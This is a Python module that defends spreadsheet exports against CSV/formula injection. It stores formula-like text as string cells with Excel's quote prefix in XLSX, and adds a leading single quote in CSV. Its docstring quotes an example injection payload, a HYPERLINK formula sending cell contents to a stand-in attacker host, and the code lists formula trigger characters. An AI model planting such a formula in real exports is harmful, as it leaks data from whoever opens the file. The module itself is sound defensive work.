"""Writing spreadsheets people open in Excel or LibreOffice: text always stays text.

A name, a description or any other text typed by a user may start with a character that a
spreadsheet reads as the start of a formula (CSV/formula injection, OWASP): a surname such as
`=HYPERLINK("http://evil.example/?v="&B4,"x")` would otherwise become a live formula reading the
other cells of the export. Every export writes its cells through this module.

The choice, made once here:
- XLSX: the text is kept exactly as typed, stored as a string cell (openpyxl turns any value
  starting with "=" into a formula unless told otherwise) and marked with Excel's "quote prefix"
  style. A string cell is never evaluated; the quote prefix also keeps it text if someone edits
  the cell and presses Enter. Nobody sees an added character and sorting or searching the
  column still works on the real surname.
- CSV: a CSV cell carries no type, so the only defence is the one OWASP recommends: prefix the
  text with a single quote `'`. Excel and LibreOffice then show it as text (the quote is visible
  in the file, the price of a format without types).
Numbers written as numbers (a negative average) are not text and are left alone.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, Protocol

from openpyxl.cell.cell import Cell, WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

# A spreadsheet starts a formula (or a DDE command) at any of these first characters.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_TEXT_PREFIX = "'"


def looks_like_formula(value: object) -> bool:
    """Whether a spreadsheet would read this value as a formula if written as it is."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def xlsx_cell(sheet: Worksheet | WriteOnlyWorksheet, value: object) -> Cell:
    """A cell holding `value`; text that looks like a formula stays inert text, unchanged."""
    # A write-only sheet (rows streamed to disk) takes its own kind of cell.
    cell = (
        WriteOnlyCell(sheet, value=value)
        if isinstance(sheet, WriteOnlyWorksheet)
        else Cell(sheet, value=value)
    )
    if looks_like_formula(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """`sheet.append(values)` where every text is written as inert text. A write-only sheet
    takes plain values as they are (a cell object only where a formula must be defused):
    several times faster for the long exports it is used for."""
    if isinstance(sheet, WriteOnlyWorksheet):
        sheet.append([xlsx_cell(sheet, v) if looks_like_formula(v) else v for v in values])
    else:
        sheet.append([xlsx_cell(sheet, value) for value in values])


def csv_text(value: object) -> object:
    """A CSV cell's value: text that looks like a formula gets the OWASP quote prefix."""
    if looks_like_formula(value):
        return f"{CSV_TEXT_PREFIX}{value}"
    return value


class RowWriter(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


def write_csv_row(writer: RowWriter, values: Iterable[Any]) -> None:
    """`writer.writerow(values)` (a `csv.writer`) with every text written as inert text."""
    writer.writerow([csv_text(value) for value in values])
